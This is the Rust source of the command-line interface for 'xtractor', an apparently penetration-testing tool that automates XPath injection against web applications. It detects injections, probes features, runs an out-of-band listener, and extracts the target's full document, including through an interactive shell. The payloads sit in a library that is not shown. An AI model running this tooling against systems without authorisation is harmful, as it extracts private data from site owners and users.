//! xtractor command-line interface
//!
//! Usage:
//!   xtractor detect URL PARAM name=value...   Report injections and features
//!   xtractor run URL PARAM name=value...      Extract the full document
//!   xtractor shell URL PARAM name=value...    Interactive extraction shell
//!   xtractor injections                       Print the injection catalog
//!   xtractor ip                               Print this machine's external IP

use anyhow::{Context as _, Result};
use clap::{Args, Parser, Subcommand, ValueEnum};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use tracing::{info, Level};
use tracing_subscriber::FmtSubscriber;

use xtractor::{
    detect_features, detect_injections, detect_injections_timed, inband_extract,
    make_delay_payload, make_match_function, AttackContext, Encoding, Extractor, HttpOracle,
    Injection, OobServer, INJECTORS,
};

mod shell;
mod tamper;

#[derive(Parser)]
#[command(name = "xtractor")]
#[command(about = "Automated XPath injection exploitation", long_about = None)]
#[command(version)]
struct Cli {
    /// Log level (trace, debug, info, warn, error)
    #[arg(long, global = true, default_value = "warn")]
    log_level: Level,

    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Detect working injections and evaluator features
    Detect(AttackArgs),
    /// Extract the full document
    Run(AttackArgs),
    /// Interactive shell over the extraction primitives
    Shell(AttackArgs),
    /// Print the injection catalog
    Injections,
    /// Print the best guess of this machine's external IP
    Ip,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum EncodeArg {
    /// Parameters in the URL query string
    Url,
    /// Parameters as a form-encoded POST body
    Form,
}

#[derive(Args)]
struct AttackArgs {
    /// Target URL
    url: String,

    /// Name of the injectable parameter
    target_parameter: String,

    /// Request parameters as name=value; must include the target parameter
    #[arg(required = true)]
    parameters: Vec<String>,

    /// HTTP method to use
    #[arg(short, long, default_value = "GET")]
    method: String,

    /// A file containing extra headers, one `Name: value` per line
    #[arg(short = 'H', long)]
    headers: Option<PathBuf>,

    /// A file containing data to send in the request body
    #[arg(short, long)]
    body: Option<PathBuf>,

    /// Where to send the parameters (query string or POST body)
    #[arg(short, long, value_enum, default_value_t = EncodeArg::Url)]
    encode: EncodeArg,

    /// Only retrieve the first 15 characters of strings
    #[arg(short, long)]
    fast: bool,

    /// Number of concurrent requests to make
    #[arg(short, long, default_value_t = 10)]
    concurrency: usize,

    /// A string in the response body marking a truthful request; negate with '!'
    #[arg(short = 't', long)]
    true_string: Option<String>,

    /// A response code marking a truthful request; negate with '!'
    #[arg(short = 'T', long)]
    true_code: Option<String>,

    /// Force enable features (comma separated)
    #[arg(long, value_delimiter = ',')]
    enable: Vec<String>,

    /// Force disable features (comma separated)
    #[arg(long, value_delimiter = ',')]
    disable: Vec<String>,

    /// host:port to listen on for OOB attacks; enables the OOB server
    #[arg(long)]
    oob: Option<String>,

    /// Executable rewriting outgoing request args (JSON on stdin/stdout)
    #[arg(long)]
    tamper: Option<PathBuf>,

    /// In-band extraction via response diffing (much faster, raw text output)
    #[arg(long, conflicts_with = "time")]
    inband: bool,

    /// Time-based blind extraction using N nested count() calls for delay
    #[arg(long, value_name = "N")]
    time: Option<u32>,
}

/// CLI misuse detected after clap parsing; reported on stderr, exit 2
fn usage_error(message: &str) -> ! {
    eprintln!("error: {}", message);
    std::process::exit(2);
}

fn parse_negatable(value: &str) -> (String, bool) {
    match value.strip_prefix('!') {
        Some(rest) => (rest.to_string(), true),
        None => (value.to_string(), false),
    }
}

fn read_headers(path: &Path) -> Result<Vec<(String, String)>> {
    let content = std::fs::read_to_string(path)
        .with_context(|| format!("failed to read header file {}", path.display()))?;
    let mut headers = Vec::new();
    for line in content.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        match line.split_once(':') {
            Some((name, value)) => headers.push((name.trim().to_string(), value.trim().to_string())),
            None => usage_error(&format!("malformed header line: {}", line)),
        }
    }
    Ok(headers)
}

fn build_context(args: &AttackArgs) -> Result<AttackContext> {
    if args.body.is_some() && args.encode != EncodeArg::Url {
        usage_error("can only use --body with url encoding");
    }
    if args.true_code.is_none() && args.true_string.is_none() && args.time.is_none() {
        usage_error("--true-code, --true-string, or --time is required");
    }

    let mut parameters = Vec::new();
    for raw in &args.parameters {
        match raw.split_once('=') {
            Some((name, value)) => parameters.push((name.to_string(), value.to_string())),
            None => usage_error(&format!("parameter '{}' is not in name=value form", raw)),
        }
    }
    if !parameters.iter().any(|(k, _)| k == &args.target_parameter) {
        usage_error(&format!(
            "target parameter {} is not in the given list of parameters",
            args.target_parameter
        ));
    }

    let true_code = args.true_code.as_deref().map(|raw| {
        let (value, negated) = parse_negatable(raw);
        match value.parse::<u16>() {
            Ok(code) => (code, negated),
            Err(_) => usage_error(&format!("--true-code '{}' is not a status code", raw)),
        }
    });
    let true_string = args
        .true_string
        .as_deref()
        .map(|raw| parse_negatable(raw));
    let match_fn = make_match_function(true_code, true_string);

    let body = match &args.body {
        Some(path) => Some(
            std::fs::read(path)
                .with_context(|| format!("failed to read body file {}", path.display()))?,
        ),
        None => None,
    };

    let headers = match &args.headers {
        Some(path) => read_headers(path)?,
        None => Vec::new(),
    };

    let tamper = match &args.tamper {
        Some(path) => {
            if !path.is_file() {
                usage_error(&format!("--tamper {} is not a script file", path.display()));
            }
            Some(Arc::new(tamper::ScriptTamper::new(path.clone())) as Arc<dyn xtractor::Tamper>)
        }
        None => None,
    };

    let encoding = match args.encode {
        EncodeArg::Url => Encoding::Url,
        EncodeArg::Form => Encoding::Form,
    };

    let mut context = AttackContext::new(
        args.url.clone(),
        args.method.clone(),
        args.target_parameter.clone(),
        parameters,
        match_fn,
        args.concurrency,
        encoding,
    )
    .with_fast_mode(args.fast)
    .with_inband(args.inband)
    .with_body(body)
    .with_headers(headers)
    .with_oob_details(args.oob.clone())
    .with_tamper(tamper);

    if let Some(nesting) = args.time {
        context = context.with_time_based(make_delay_payload(nesting));
    }

    for name in &args.enable {
        context.set_feature(name, true);
    }
    for name in &args.disable {
        context.set_feature(name, false);
    }

    Ok(context)
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = Cli::parse();

    let subscriber = FmtSubscriber::builder()
        .with_max_level(cli.log_level)
        .with_writer(std::io::stderr)
        .finish();
    if tracing::subscriber::set_global_default(subscriber).is_err() {
        eprintln!("warning: failed to initialize logging");
    }

    let work = async {
        match &cli.command {
            Commands::Detect(args) => cmd_detect(args).await,
            Commands::Run(args) => cmd_run(args).await,
            Commands::Shell(args) => cmd_shell(args).await,
            Commands::Injections => Ok(cmd_injections()),
            Commands::Ip => cmd_ip().await,
        }
    };

    // Ctrl-C aborts in-flight work; dropping the futures tears down the
    // session and the OOB server in reverse construction order.
    let outcome = tokio::select! {
        outcome = work => outcome,
        _ = tokio::signal::ctrl_c() => {
            info!("interrupted, cleaning up");
            return ExitCode::SUCCESS;
        }
    };

    match outcome {
        Ok(code) => code,
        Err(error) => {
            eprintln!("error: {:#}", error);
            ExitCode::from(1)
        }
    }
}

/// Detect injections, then print one line per survivor and the probed
/// feature table for the first one.
async fn cmd_detect(args: &AttackArgs) -> Result<ExitCode> {
    let context = build_context(args)?;

    if context.time_based {
        let started = context.start(None)?;
        println!(
            "Time-based mode: delay payload {}",
            context.time_delay_expr.as_deref().unwrap_or_default()
        );
        let (detected, threshold) = detect_injections_timed(&started).await?;
        if detected.is_empty() {
            eprintln!("Error: no injections detected via timing; try a deeper --time nesting");
            return Ok(ExitCode::from(1));
        }
        for injection in &detected {
            println!("{}", injection.name);
            println!("Example: {}", injection.example);
        }
        println!("Calibrated threshold: {:.2}s", threshold);
        println!("Feature probing skipped in time-based mode");
        return Ok(ExitCode::SUCCESS);
    }

    let started = context.start(None)?;
    let detected = detect_injections(&started).await?;
    if detected.is_empty() {
        eprintln!("Error: no injections detected");
        return Ok(ExitCode::from(1));
    }

    for injection in &detected {
        println!("{}", injection.name);
        println!("Example: {}", injection.example);
    }
    println!();

    let features = detect_features(&started, &detected[0]).await?;
    println!("Detected features:");
    for (feature, available) in features {
        println!("{}: {}", feature.name, available);
    }
    Ok(ExitCode::SUCCESS)
}

/// Shared attack setup: detect, pick the first survivor, probe features,
/// start the OOB server when it will be useful. Returns the ready-to-use
/// context and the OOB guard to tear down afterwards.
async fn setup_attack(context: AttackContext) -> Result<(AttackContext, Option<Arc<OobServer>>)> {
    let (mut context, selected) = if context.time_based {
        info!("time-based mode: detecting injections via timing");
        let started = context.start(None)?;
        let (detected, threshold) = detect_injections_timed(&started).await?;
        drop(started);
        let Some(selected) = detected.first().copied() else {
            anyhow::bail!("no injections detected via timing; try a deeper --time nesting");
        };
        info!(injection = selected.name, threshold, "timed detection finished");
        (context.with_time_threshold(threshold), selected)
    } else {
        let started = context.start(None)?;
        let detected = detect_injections(&started).await?;
        let Some(selected) = detected.first().copied() else {
            anyhow::bail!("no injections detected");
        };
        if detected.len() > 1 {
            info!(
                alternates = detected.len() - 1,
                "multiple injections detected, using the first"
            );
        }

        // Feature probing runs against the detection session: probes are
        // rendered through the chosen injection explicitly, not implicitly
        // by check().
        let probed = detect_features(&started, &selected).await?;
        drop(started);
        let mut context = context;
        for (feature, available) in probed {
            // --enable/--disable take precedence over probing.
            if !context.features.contains_key(feature.name) {
                context.set_feature(feature.name, available);
            }
        }
        (context, selected)
    };

    if context.time_based {
        // Each probe costs seconds here; skip feature detection entirely.
        // normalize-space is XPath 1.0 and always safe, and it suppresses
        // whitespace noise in linear scans.
        context.set_feature("normalize-space", true);
    }

    let attack = context.start(Some(selected))?;
    if !attack.time_based && attack.feature("oob-http") {
        match attack.start_oob_server().await {
            Ok((attack, server)) => return Ok((attack, Some(server))),
            Err(error) => {
                info!(%error, "OOB server unavailable, continuing without it");
            }
        }
    }
    Ok((attack, None))
}

async fn cmd_run(args: &AttackArgs) -> Result<ExitCode> {
    let context = build_context(args)?;
    let (attack, oob) = setup_attack(context).await?;

    if attack.inband {
        if let Some(lines) = inband_extract(&attack).await? {
            for line in &lines {
                println!("{}", line);
            }
            if let Some(server) = oob {
                server.shutdown().await;
            }
            return Ok(if lines.is_empty() {
                ExitCode::from(1)
            } else {
                ExitCode::SUCCESS
            });
        }
        info!("falling back to blind extraction");
    }

    let oracle = HttpOracle::new(&attack);
    let extractor = Extractor::for_context(&oracle, &attack);
    let root = extractor.get_nodes("/*[1]").await?;
    print!("{}", root);

    if let Some(server) = oob {
        server.shutdown().await;
    }

    let empty = root.name.is_empty()
        && root.children.is_empty()
        && root.text.as_deref().unwrap_or_default().is_empty()
        && root.serialized.is_none();
    Ok(if empty {
        ExitCode::from(1)
    } else {
        ExitCode::SUCCESS
    })
}

async fn cmd_shell(args: &AttackArgs) -> Result<ExitCode> {
    let context = build_context(args)?;
    let (attack, oob) = setup_attack(context).await?;
    let outcome = shell::shell_loop(&attack).await;
    if let Some(server) = oob {
        server.shutdown().await;
    }
    outcome?;
    Ok(ExitCode::SUCCESS)
}

fn cmd_injections() -> ExitCode {
    println!("Supports {} injections:", INJECTORS.len());
    for injector in INJECTORS {
        print_injection(injector);
    }
    ExitCode::SUCCESS
}

fn print_injection(injector: &Injection) {
    println!("Name: {}", injector.name);
    println!(" Example: {}", injector.example);
    println!(" Tests:");
    for (payload, expected) in injector.test_payloads("?") {
        let result = if expected { "passes" } else { "fails" };
        println!("   {} = {}", payload, result);
    }
}

async fn cmd_ip() -> Result<ExitCode> {
    let client = reqwest::Client::new();
    let services = ["https://api.ipify.org", "https://icanhazip.com"];
    for service in services {
        let response = match client.get(service).send().await {
            Ok(response) => response,
            Err(_) => continue,
        };
        if let Ok(body) = response.text().await {
            let ip = body.trim();
            if !ip.is_empty() {
                println!("{}", ip);
                return Ok(ExitCode::SUCCESS);
            }
        }
    }
    eprintln!("Could not find an external IP");
    Ok(ExitCode::from(1))
}
